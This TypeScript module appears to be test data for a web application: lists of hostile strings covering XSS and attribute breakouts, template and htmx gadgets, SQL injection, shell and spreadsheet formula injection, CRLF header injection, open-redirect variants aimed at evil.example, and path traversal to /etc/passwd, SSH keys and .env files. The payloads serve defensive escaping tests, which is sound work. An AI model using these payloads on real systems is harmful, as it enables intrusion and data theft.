/**
 * Words that somebody may write into any field, and that must stay words wherever they are shown. Whatever of it runs
 * calls `pwned()`, or asks for `/pwned` of this house or of evil.example.
 */

const MARKUP = [
  '<script>pwned(1)</script>',
  '</script><script src=//evil.example/pwned.js></script>',
  '"><img src=/pwned onerror=pwned(2)>',
  "'><svg onload=pwned(3)>",
  '</textarea></title></style></noscript><svg/onload=pwned(4)>',
  '<iframe srcdoc="<script>parent.pwned(5)</script>">',
  '<object data="javascript:pwned(6)"><embed src=/pwned>',
  '<link rel=stylesheet href=//evil.example/pwned.css>',
  '<meta http-equiv=refresh content="0;url=/pwned">',
  '<base href=//evil.example/pwned/>',
  '<form action=//evil.example/pwned><button autofocus>',
  '<style>@import "/pwned";*{background:url(/pwned)}</style>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned(7)>',
  '<svg><a href="javascript:pwned(8)"><text>x</text></a></svg>',
  '<details open ontoggle=pwned(9)><summary>',
  '<a href="javascript:pwned(10)" id=content name=holds>x</a>',
  '<template><slot></template><portal src=/pwned>',
  '<input autofocus onfocus=pwned(11) name=back value=//evil.example>',
  '&lt;script&gt;pwned(12)&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp; &notanentity; &',
  '<!-- <img src=/pwned> --!> --> <!-',
  '<![CDATA[ <b> ]]> <?php echo 1 ?> <%= 1 %>',
  '</td></tr></table></main></body></html>',
]

/** What breaks out of an attribute, quoted either way or not at all. */
export const ATTRIBUTES = [
  '" onmouseover="pwned(20)" x="',
  "' onfocus='pwned(21)' autofocus='",
  ' onclick=pwned(22) style=background:url(/pwned) ',
  '`onload=pwned(23)`',
  'javascript:pwned(24)',
  'JaVaScRiPt\t:pwned(25)',
  'data:text/html,<script>pwned(26)</script>',
  'vbscript:pwned(27)',
  '//evil.example/pwned',
  '\\\\evil.example\\pwned',
]

/** What libraries on a page would take for their own. */
const GADGETS = [
  '{{7*7}} {{constructor.constructor("pwned(30)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is no template
  '${pwned(31)} #{pwned(31)} <%= pwned(31) %> {%7*7%} [[7*7]]',
  '<div x-data="pwned(32)" x-init="pwned(32)" @click="pwned(32)" :href="pwned(32)"></div>',
  '<div data-hx-get="/pwned" data-hx-trigger="load"></div>',
  '<div hx-get="/pwned" hx-trigger="load" hx-swap-oob="true" id="content"></div>',
  '<button hx-post="/appearance" hx-trigger="load delay:1ms" hx-vals="js:{a:pwned(33)}">',
  '<div hx-on:htmx:load="pwned(34)" data-hx-on--load="pwned(34)">',
  '<hx-partial hx-target="#content"><b>pwned</b></hx-partial>',
  '<template hx type="partial" hx-target="#content">pwned</template>',
  '<p data-live="content" data-since="0" id="panel" data-holds="/pwned" data-left="9">',
  '<select data-own-zone><option data-lightbox="0" data-slide="1" data-step="1">',
  '$t(common.skip) $t(letter.greeting, {"name":"x"}) {{house}} {count, plural, other{#}}',
]

/** What other programs that the words pass through would take for their own. */
const PROGRAMS = [
  "Robert'); DROP TABLE bookings;--",
  "' OR 1=1 -- \" OR ''=' /* */ ;",
  '100% _under_ \\back \'quote\' "double" `tick`',
  '%s %n %x %d %p {0} {} %(name)s %%',
  '$(touch /tmp/pwned) `touch /tmp/pwned` ; | & > /tmp/pwned',
  '../../../../etc/passwd ..\\..\\windows %2e%2e%2f',
  '=HYPERLINK("http://evil.example/pwned","x")',
  "+cmd|' /C calc'!A0 @SUM(1+1) -2+3",
  'END:VEVENT BEGIN:VALARM ACTION:PROCEDURE ATTACH:/pwned END:VALARM',
  'ATTENDEE;CN="x":mailto:evil@evil.example;,\\n\\,\\;',
  'Bcc: evil@evil.example%0d%0aSet-Cookie: a=b',
  'event: admin data: pwned id: 1 retry: 1',
  '{"__proto__":{"pwned":true}} null undefined NaN true [object Object]',
  '\\u001b[31mred\\u001b[0m \\x1b[2J',
  '{"level":"error","event":"pwned"}',
]

/** Signs that move, join, vanish or are many. */
const SIGNS = [
  'a\u2028b\u2029c',
  '\u202egnirts\u202c \u2066isolated\u2069 \u200f\u200e \u061c',
  'עברית و العربية mixed עם English',
  '👩‍👩‍👧‍👦 👨🏾‍🚀 🏴󠁧󠁢󠁷󠁬󠁳󠁿 🇫🇷 1️⃣',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́O̵̹̹ combining',
  'zero\u200bwidth\u200c\u200d\u2060\ufeff soft\u00adhyphen no\u00a0break',
  'İstanbul ıssız ß ẞ ﬁ Å Å Å ǅ',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𐐷 𠜎𠜱 \u{10ffff} \ufffd \ufffe',
  '漢字かなカナ한국어ไทยमराठीҚазақтілі',
  '＜script＞pwned(40)＜/script＞ ‹img› ʺonloadʺ',
  '٠١٢٣ １２３ Ⅷ ½ ² −1 1e400 0x7f 1_000',
  '\u00a0 \u2003 spaces \u3000',
  `W${'w'.repeat(70)}`,
]

/** Each on one line. */
export const HOSTILE: readonly string[] = [...MARKUP, ...ATTRIBUTES, ...GADGETS, ...PROGRAMS, ...SIGNS]

/** All of them, as nobody's field would hold them; on several lines, but in one paragraph. */
export const EVERYTHING = HOSTILE.join(' ·\n')
export const EVERYTHING_IN_A_LINE = HOSTILE.join(' · ')

/** All of them in as few texts as have no more than so many letters each. */
export function packsOf(most: number, between = ' '): string[] {
  const packs: string[] = []
  for (const each of HOSTILE) {
    const words = each.trim().slice(0, most).trimEnd()
    const last = packs.at(-1)
    if (last !== undefined && last.length + between.length + words.length <= most)
      packs[packs.length - 1] = last + between + words
    else packs.push(words)
  }
  return packs
}

/** What HTML makes of a text on the way through a parser: its line ends, and nothing else. */
export const throughHtml = (text: string): string => text.replace(/\r\n?/g, '\n')

/** A text as it stands in HTML, in a text or in an attribute. */
export const escapedForHtml = (text: string): string =>
  text.replace(
    /[&<>"']/g,
    (sign) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[sign]!,
  )

/** Addresses that lead to another site wherever somebody takes them for a path of this one. */
export function everyRedirect(evil: string, here: string): string[] {
  const begins = [
    ...[
      '//',
      '///',
      '////',
      '/////',
      '/\\',
      '\\/',
      '\\\\',
      '/\\/',
      '\\/\\',
      '/\\\\',
      '\\//',
      '//\\',
      '/.//',
      '/..//',
      '/./\\',
    ],
    ...[
      '/%09/',
      '/\t/',
      '/\n/',
      '/\r/',
      '\t//',
      '\n//',
      ' //',
      '\u00a0//',
      '\u2003//',
      '\u200b//',
      '\ufeff//',
      '/\u0000/',
    ],
    ...[
      '/%2f',
      '/%5c',
      '%2f%2f',
      '/%2f/',
      '/%2f%2f',
      '/%5c/',
      '/%252f/',
      '/.%2f/',
      '/%2e//',
      '/%2e%2e//',
      '/%2e/%2f',
    ],
    ...[
      'http://',
      'https://',
      'HTTPS://',
      'https:/',
      'https:',
      'https:///',
      'https:\\\\',
      'http:\\/',
      'https://\\',
      'ht\ttps://',
    ],
    ...[
      'ftp://',
      'ws://',
      'file://',
      'blob:https://',
      'view-source:https://',
      '/https://',
      '/http:',
      ':',
      '://',
      ':///',
    ],
    ...[
      `//${here}@`,
      `//${here}:80@`,
      `https://${here}@`,
      `//${here}\\@`,
      `/\\${here}@`,
      `//${here}%40`,
      `//${here}.`,
      `//${here}#@`,
    ],
    ...[
      '〱',
      '〵',
      'ゝ',
      'ー',
      'ｰ',
      '／／',
      '/／',
      '／',
      '。。',
      '/。',
      '⁄⁄',
      '∕∕',
      '﹨',
      '＼',
      '//。',
      '//［',
      '/;/',
      '/;@',
      '?//',
      '#//',
    ],
    ...[
      '@',
      '/@',
      '//@',
      '.',
      '/.',
      '..',
      '/..',
      '&',
      '/&',
      '*',
      '/*',
      '|',
      '/|',
      '^',
      '`',
      '~',
      '/~/',
      '=',
      '+',
      '%',
    ],
  ]
  const ends = ['', '/', '/..', '/%2f..', '%00', '#', '?', `/${here}`, `?x=${here}`, `#${here}`]
  const schemes = [
    'javascript:pwned(1)',
    'java\tscript:pwned(1)',
    '\u0001javascript:pwned(1)',
    ' javascript:pwned(1)',
    'JAVASCRIPT:pwned(1)',
    '/javascript:pwned(1)',
    'javascript://%0apwned(1)',
    'data:text/html,<script>pwned(1)</script>',
    'vbscript:pwned(1)',
    '//javascript:pwned(1)',
    '/packages\r\nLocation: //evil.example',
    '/packages%0d%0aLocation:%20//evil.example',
    '/packages/../..//evil.example',
    '/packages/..//evil.example',
    '/packages/%2e%2e//evil.example',
    '/packages/../%2e%2e/.//evil.example',
    '',
    ' ',
    '\u0000',
    '\ud800//evil.example',
  ]
  return [
    ...begins.flatMap((each, index) => [each + evil, each + evil + ends[index % ends.length]]),
    ...schemes,
    ...begins,
  ]
}

/** What would be SQL if it were ever read as such. */
export const INJECTIONS: readonly string[] = [
  "'",
  '"',
  '`',
  "' OR '1'='1",
  "' OR 1=1--",
  "') OR ('1'='1",
  "'; DROP TABLE bookings;--",
  '1; DELETE FROM bookings',
  "' UNION SELECT name FROM sqlite_master--",
  '1 UNION SELECT 1,2,3',
  "x' AND randomblob(100000000)--",
  "1' AND SLEEP(9)--",
  "'||(SELECT email FROM bookings)||'",
  '%',
  '_',
  '%_%',
  '\\',
  "\\'",
  '*',
  '"a" NEAR("b")',
  'NOT AND OR (',
  'price;drop',
  '-price--',
  'id DESC, (SELECT 1)',
  '?1',
  ':name @name $name',
  '/*',
  '--',
  ';',
  '\u0000',
  'ʼ OR 1=1',
  '0x27',
  '1e309',
  '-1',
  '99999999999999999999',
  'NULL',
  'true',
  '[object Object]',
]

/** What would lead to another file if it were ever read as a path. */
export const TRAVERSALS: readonly string[] = [
  '../package.json',
  '../../../../../../etc/passwd',
  '..%2fpackage.json',
  '..%2f..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e/package.json',
  '%2e%2e%2fpackage.json',
  '%252e%252e%252fpackage.json',
  '..%252f..%252fetc%252fpasswd',
  '..%5cpackage.json',
  '..\\package.json',
  '....//package.json',
  '....%2f%2fpackage.json',
  '..;/package.json',
  '.%2e/package.json',
  '..%c0%afpackage.json',
  '%c0%ae%c0%ae/package.json',
  '..%e0%80%afpackage.json',
  '..%ef%bc%8fpackage.json',
  '%uff0e%uff0e/package.json',
  '..%00/package.json',
  'app.js%00.svg',
  '%00',
  '.',
  '..',
  '...',
  '/etc/passwd',
  '%2fetc%2fpasswd',
  'file:///etc/passwd',
  'C:%5cwindows%5cwin.ini',
  '~/.ssh/id_rsa',
  '.git/config',
  '.env',
  'constructor',
  '__proto__',
  'toString',
  'js/app.js/../../../package.json',
  'js%2fapp.js%3f.svg',
  'CON',
  'app.js::$DATA',
  'x'.repeat(3_000),
]
